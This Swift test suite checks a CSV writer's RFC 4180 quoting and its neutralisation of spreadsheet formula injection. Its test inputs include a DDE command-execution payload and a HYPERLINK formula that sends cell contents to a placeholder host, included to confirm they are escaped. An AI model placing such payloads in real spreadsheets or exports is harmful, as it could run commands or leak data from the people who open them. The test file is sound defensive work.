import HTTP
import Primitives
import Testing

@Suite struct CSVWriterTests {
  private func line(_ cells: [String]) -> Bytes {
    var writer = CSVWriter()
    for cell in cells { writer.cell(cell) }
    writer.endRow()
    return writer.bytes
  }

  /// A reader written from RFC 4180's grammar alone; nil for what breaks it.
  private func parse(_ bytes: Bytes) -> [[String]]? {
    var rows: [[String]] = []
    var row: [String] = []
    var cell: Bytes = []
    var rest = bytes[...]
    while !rest.isEmpty {
      if rest.first == UInt8(ascii: "\"") {
        rest.removeFirst()
        while true {
          guard let byte = rest.popFirst() else { return nil }
          if byte != UInt8(ascii: "\"") {
            cell.append(byte)
          } else if rest.first == UInt8(ascii: "\"") {
            cell.append(rest.removeFirst())
          } else {
            break
          }
        }
      } else {
        let plain = rest.prefix { !",\"\r\n".utf8.contains($0) }
        cell += plain
        rest = rest.dropFirst(plain.count)
      }
      row.append(cell.string)
      cell = []
      if rest.first == UInt8(ascii: ",") {
        rest.removeFirst()
        if rest.starts(with: "\r\n".utf8) { row.append("") }
      }
      if rest.starts(with: "\r\n".utf8) {
        rest = rest.dropFirst(2)
        rows.append(row)
        row = []
      } else if rest.isEmpty || row.isEmpty {
        return nil
      }
    }
    return row.isEmpty ? rows : nil
  }

  @Test func everyTextSurvives() throws {
    var writer = CSVWriter()
    for _ in 0..<2 {
      for text in naughtyTexts { writer.cell(text) }
      writer.cell("end")
      writer.endRow()
    }
    let rows = try #require(parse(writer.bytes))
    #expect(rows.count == 2)
    for row in rows {
      #expect(row.count == naughtyTexts.count + 1)
      for (read, text) in zip(row, naughtyTexts) {
        #expect(Array(read.utf8) == Array(text.utf8) || read == "'" + text)
      }
    }
  }

  @Test(arguments: [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1", "-1+1", "-A1", "+cmd", "\t=1", "\r=1", "\n=1",
    "\0=1", "=", "@", "-1,5", "+(1)", "-2\"", "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "--1", "-1e5",
  ])
  func neutralisesFormulas(text: String) throws {
    #expect(try #require(parse(line([text]))) == [["'" + text]])
  }

  @Test(arguments: ["-1", "+1", "-1.5", "0", "1=1", "a@b.example", "a-b", "'", " =1", "x+y", "-"])
  func leavesTheRestAlone(text: String) {
    #expect(line([text]).string == text + "\r\n")
  }

  @Test func quotesOnlyWhereItMust() {
    #expect(
      line(["a", "a,b", "a\"b", "a\nb", "a\r\nb", "a'b", "a;b", ""]).string
        == "a,\"a,b\",\"a\"\"b\",\"a\nb\",\"a\r\nb\",a'b,a;b,\r\n")
  }

  @Test func separatesEveryKindOfCell() {
    var writer = CSVWriter()
    writer.empty()
    writer.plain { $0.append(decimal: -7) }
    writer.empty()
    writer.endRow()
    writer.plain { $0.append(literal: "x") }
    writer.cell("y")
    writer.endRow()
    #expect(writer.bytes.string == ",-7,\r\nx,y\r\n")
  }
}
